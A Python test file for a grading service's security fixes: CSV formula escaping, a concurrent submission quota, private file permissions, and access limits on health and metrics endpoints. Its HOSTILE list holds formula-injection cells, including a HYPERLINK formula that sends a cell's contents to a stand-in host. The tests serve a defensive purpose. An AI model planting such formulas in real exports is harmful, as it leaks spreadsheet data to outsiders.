"""The smaller holes: CSV cells that a spreadsheet would run as formulas are neutralised (one
function, app/core/csvcell.py, for every export); the hourly quota holds under concurrent
submissions; the embedded home is 0700 and its databases 0600; /api/health names workers
(host:pid) to staff only; /metrics refuses what a proxy on this host sends on."""

# ruff: noqa: F811  (the service fixtures, imported)
from __future__ import annotations

import csv
import io
import os
import stat
import subprocess
import sys
import threading
from pathlib import Path

import httpx
import pytest
from fastapi.testclient import TestClient

from app.core.csvcell import cell, row
from tests.security.pages import graded
from tests.security.test_signin_limits import serving
from tests.service.conftest import client, make_user, pg_url, service_env  # noqa: F401

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = ['=HYPERLINK("x.example?"&A1,"grades")', "+SUM(1+1)", "-2+3", "\tx", "\rx"]


@pytest.mark.parametrize("text", [*HOSTILE, "@SUM(A1)", "\nx"])
def test_a_formula_cell_is_text(text: str) -> None:
    assert cell(text) == "'" + text


@pytest.mark.parametrize("value", ["ann", "Ana María", "x=1", "", 3, -2.5, None])
def test_other_cells_are_unchanged(value: object) -> None:
    assert cell(value) == value
    assert row([value]) == [value]


def test_the_grades_export_neutralises_names(client: TestClient, make_user) -> None:  # type: ignore[no-untyped-def]
    prof = make_user("prof", "instructor")
    for name in HOSTILE[:3]:
        make_user(name)
        graded(name, 2)
    r = client.get("/api/export/c3a-vector-add.csv", headers=prof)
    assert r.status_code == 200, r.text
    names = [line[0] for line in csv.reader(io.StringIO(r.text))][1:]
    assert sorted(names) == sorted("'" + n for n in HOSTILE[:3]), names


def test_the_hourly_quota_holds_under_concurrent_submissions(
    service_env, make_user, monkeypatch: pytest.MonkeyPatch
) -> None:  # type: ignore[no-untyped-def]
    from app.settings import get_settings

    monkeypatch.setenv("KGRADE_SUBMISSIONS_PER_HOUR", "3")
    get_settings.cache_clear()
    ann = make_user("ann")
    source = (ROOT / "reference_kernels/c3a_vector_add/reference.py").read_text()
    n = 12
    barrier = threading.Barrier(n)
    statuses: list[int] = []
    with serving() as url:

        def submit() -> None:
            with httpx.Client(base_url=url, timeout=60) as c:
                barrier.wait()
                body = {"checkpoint": "c3a-vector-add", "source": source}
                statuses.append(c.post("/api/submissions", headers=ann, json=body).status_code)

        threads = [threading.Thread(target=submit) for _ in range(n)]
        for t in threads:
            t.start()
        for t in threads:
            t.join(120)
    assert sorted(statuses) == [201] * 3 + [429] * (n - 3), sorted(statuses)


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_the_embedded_home_is_private(tmp_path: Path) -> None:
    env = {k: v for k, v in os.environ.items() if not k.startswith("KGRADE_")}
    home = tmp_path / "home"
    env.update(KGRADE_HOME=str(home), PYTHONPATH=str(ROOT))
    kgrade = [sys.executable, "-m", "app.cli"]
    subprocess.run([*kgrade, "migrate"], cwd=ROOT, env=env, check=True, capture_output=True)
    subprocess.run(
        [*kgrade, "users", "add", "ann"], cwd=ROOT, env=env, check=True, capture_output=True
    )
    assert _mode(home) == 0o700
    for name in ("kgrade.db", "broker.db"):
        assert _mode(home / name) == 0o600, name
    for extra in home.glob("kgrade.db-*"):  # SQLite's -wal and -shm
        assert _mode(extra) & 0o077 == 0, extra
    # an older home left readable is tightened
    home.chmod(0o755)
    (home / "kgrade.db").chmod(0o644)
    subprocess.run([*kgrade, "users", "list"], cwd=ROOT, env=env, check=True, capture_output=True)
    assert (_mode(home), _mode(home / "kgrade.db")) == (0o700, 0o600)


def test_health_names_workers_to_staff_only(client: TestClient, make_user) -> None:  # type: ignore[no-untyped-def]
    from app.db import transaction
    from app.health import service as health

    with transaction() as s:
        health.report_seen(s, "celery@gpu-host-7:4242", "precheck", None)
    student, prof = make_user("ann"), make_user("prof", "instructor")
    for headers in ({}, student, {"Authorization": "Bearer not-a-token"}):
        text = client.get("/api/health", headers=headers).text
        assert "gpu-host-7" not in text and "4242" not in text, text
        assert "worker 1" in text
    assert "celery@gpu-host-7:4242" in client.get("/api/health", headers=prof).text


def test_metrics_refuses_what_a_local_proxy_sends_on(service_env) -> None:  # type: ignore[no-untyped-def]
    from app.main import create_app

    near = TestClient(create_app(), client=("127.0.0.1", 40000))
    assert near.get("/metrics").status_code == 200
    for header in ("X-Forwarded-For", "Forwarded", "X-Real-IP"):
        r = near.get("/metrics", headers={header: "203.0.113.7"})
        assert r.status_code == 403, header
